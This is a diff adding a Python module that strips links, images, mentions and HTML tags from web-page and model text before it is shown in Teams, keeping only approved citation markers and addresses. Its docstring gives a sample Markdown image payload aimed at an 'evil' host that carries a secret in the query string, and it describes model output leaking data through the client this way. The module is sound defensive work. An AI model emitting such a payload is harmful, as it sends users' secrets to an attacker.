@@ -1,0 +1,76 @@
+"""Text from pages and models as text that is safe to show: no links, images, mentions or tags that are not ours.
+
+Teams renders Markdown and some HTML. A page or a model that writes `![](https://evil/?q=secret)` would otherwise
+make the reader's client fetch that address (CVE-2025-32711 worked so). Brackets and tags are replaced by lookalikes
+rather than escaped, so that the result reads the same in a client that renders no Markdown.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Collection
+from urllib.parse import quote, urldefrag, urljoin, urlsplit
+
+NAME_CHARACTERS = 80
+ABSTRACT_CHARACTERS = 160
+MAX_URL_CHARACTERS = 2_000
+LINK_LEFT_OUT = "(link left out)"
+
+_LINK = re.compile(r"!?\[([^\[\]\n]{0,500})\]\([^()\s]*(?:\([^()\s]*\)[^()\s]*)*(?:\s[^()\n]*)?\)")
+_MARKER = re.compile(r"\[(\d{1,3})\]")
+_TAG = re.compile(r"<(?=[A-Za-z/!?])")
+_ADDRESS = re.compile(
+    r"(?<![\w@])(?:[a-z][a-z0-9+.-]{1,20}://|www\.|mailto:|javascript:|data:)[^\s<>]+", re.IGNORECASE
+)
+
+
+def calm(text: str, *, keep_urls: Collection[str] | None = None, markers: int = 0) -> str:
+    """Take from a text whatever a client could turn into a link, an image, a mention or markup.
+
+    `markers`: [1] to [markers] stay, they are the citations. `keep_urls`: the addresses that may stand in the text;
+    None leaves every address as plain text.
+    """
+    before = ""
+    while before != text:  # an image may stand in a link
+        before, text = text, _LINK.sub(lambda link: f"[{link[1]}]" if link[1].isdigit() else link[1], text)
+    if keep_urls is not None:
+        text = _ADDRESS.sub(lambda found: _kept(found[0], keep_urls), text)
+    pieces: list[str] = []
+    end = 0
+    for marker in _MARKER.finditer(text):
+        if 1 <= int(marker[1]) <= markers:
+            pieces += [_flat(text[end : marker.start()]), marker[0]]
+            end = marker.end()
+            if text[end : end + 1] in {"(", ":", "["}:
+                pieces.append(" ")
+    return "".join([*pieces, _flat(text[end:])])
+
+
+def _flat(text: str) -> str:
+    return _TAG.sub("‹", text.translate({ord("["): "(", ord("]"): ")"}))  # noqa: RUF001 - the lookalike is meant
+
+
+def _kept(found: str, keep_urls: Collection[str]) -> str:
+    address = found.rstrip(".,;:!?)]\"'")
+    kept = urldefrag(address).url in {urldefrag(url).url for url in keep_urls}
+    return found if kept else LINK_LEFT_OUT + found[len(address) :]
+
+
+def clipped(text: str, characters: int) -> str:
+    """Cut a text to a length, with an ellipsis where something went."""
+    return text if len(text) <= characters else text[: characters - 1].rstrip() + "…"
+
+
+def absolute(url: str, site_url: str) -> str:
+    """Return the address to open; "" where it is not one of the web or too long to send.
+
+    `site_url` is what a root-relative page address such as "/site/docs/x#y" is joined to.
+    """
+    try:
+        joined = urljoin(site_url, url)
+        parts = urlsplit(joined)
+    except ValueError:
+        return ""
+    if parts.scheme not in {"http", "https"} or not parts.hostname or len(joined) > MAX_URL_CHARACTERS:
+        return ""
+    return quote(joined, safe="%/:=&?~#+!$,;'@()*[]")
